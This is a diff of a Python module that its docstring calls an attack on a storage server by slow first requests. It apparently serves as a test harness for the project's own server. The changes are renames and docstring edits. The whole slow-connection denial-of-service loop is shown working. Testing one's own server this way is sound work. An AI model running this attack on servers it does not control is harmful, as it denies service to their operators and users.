@@ -1,8 +1,8 @@
-"""An attack on a storage server: ``python slow_hellos.py HOST PORT COUNT``.
+"""An attack on a storage server by slow first requests: ``python -m storage.slow_hellos HOST PORT COUNT``.
 
-The attack keeps COUNT connections open, sends one byte of a valid header on each every 7 s, and replaces each
-connection that the server closes. It prints ``ready`` after the server has closed one for the first time. At the end of
-standard input, it prints the number of connections that it opened, and exits.
+The attack keeps COUNT connections open, sends one byte of a valid request on each every 7 s, and replaces each
+connection that the server closes. It prints ``ready`` when the server has closed a connection for the first time. At
+the end of standard input, it prints the number of connections that it opened, and exits.
 """
 
 from __future__ import annotations
@@ -27,42 +27,42 @@ _POLL_PERIOD_S = 0.05
 def main(host: str, port: int, count: int) -> None:
     """Attack until the end of standard input."""
     frame = pack_control(FrameType.CONTROL_REQUEST, pack_request(messages.ReadStatistics()), sequence=1)
-    ends: dict[socket.socket, int] = {}
-    opened, next_byte_s, is_ready = 0, 0.0, False
+    sent_bytes_by_connection: dict[socket.socket, int] = {}
+    opened_count, next_byte_s, is_ready = 0, 0.0, False
     while not select.select([sys.stdin], (), (), _POLL_PERIOD_S)[0]:
-        readable = select.poll()
-        for end in ends:
-            readable.register(end, select.POLLIN)
-        by_number = {end.fileno(): end for end in ends}
-        ended = readable.poll(0)
-        for number, _events in ended:
-            end = by_number[number]
+        poller = select.poll()
+        for connection in sent_bytes_by_connection:
+            poller.register(connection, select.POLLIN)
+        by_descriptor = {connection.fileno(): connection for connection in sent_bytes_by_connection}
+        closed_by_server = poller.poll(0)
+        for descriptor, _events in closed_by_server:
+            connection = by_descriptor[descriptor]
             with contextlib.suppress(OSError):
-                end.recv(4096)
-            del ends[end]
-            end.close()
-        while len(ends) < count:
-            end = socket.socket()
-            end.settimeout(0)
-            if end.connect_ex((host, port)) not in {0, errno.EINPROGRESS}:
-                end.close()
+                connection.recv(4096)
+            del sent_bytes_by_connection[connection]
+            connection.close()
+        while len(sent_bytes_by_connection) < count:
+            connection = socket.socket()
+            connection.settimeout(0)
+            if connection.connect_ex((host, port)) not in {0, errno.EINPROGRESS}:
+                connection.close()
                 break
-            opened += 1
+            opened_count += 1
             # Every second connection sends a byte at once. The others are silent at first.
-            ends[end] = 0
-            if opened % 2:
+            sent_bytes_by_connection[connection] = 0
+            if opened_count % 2:
                 with contextlib.suppress(OSError):
-                    ends[end] = end.send(frame[:1])
+                    sent_bytes_by_connection[connection] = connection.send(frame[:1])
         if time.monotonic() >= next_byte_s:
             next_byte_s = time.monotonic() + _BYTE_PERIOD_S
-            for end, sent in ends.items():
+            for connection, sent_bytes in sent_bytes_by_connection.items():
                 with contextlib.suppress(OSError):
-                    ends[end] += end.send(frame[sent : sent + 1])
-        if not is_ready and ended:
+                    sent_bytes_by_connection[connection] += connection.send(frame[sent_bytes : sent_bytes + 1])
+        if not is_ready and closed_by_server:
             is_ready = True
             sys.stdout.write("ready\n")
             sys.stdout.flush()
-    sys.stdout.write(f"{opened}\n")
+    sys.stdout.write(f"{opened_count}\n")
 
 
 if __name__ == "__main__":
